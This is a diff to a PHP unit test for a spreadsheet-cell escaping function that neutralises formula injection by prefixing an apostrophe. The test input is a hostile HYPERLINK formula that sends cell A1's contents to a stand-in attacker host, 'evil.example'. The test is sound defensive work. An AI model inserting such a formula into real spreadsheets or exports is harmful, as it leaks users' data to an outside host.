@@ -31,8 +31,10 @@ use PHPUnit\Framework\TestCase;
  */
 final class SpreadsheetCellTest extends TestCase {
     public function test_formula_starts_get_an_apostrophe(): void {
-        $this->assertSame('\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")',
-            spreadsheet_cell::escape('=HYPERLINK("http://evil.example/?x="&A1,"Kim")'));
+        $this->assertSame(
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")',
+            spreadsheet_cell::escape('=HYPERLINK("http://evil.example/?x="&A1,"Kim")')
+        );
         foreach (['+1', '-1+2', '@SUM(A1)', "\t=1", "\r=1"] as $cell) {
             $this->assertSame("'" . $cell, spreadsheet_cell::escape($cell), json_encode($cell));
         }
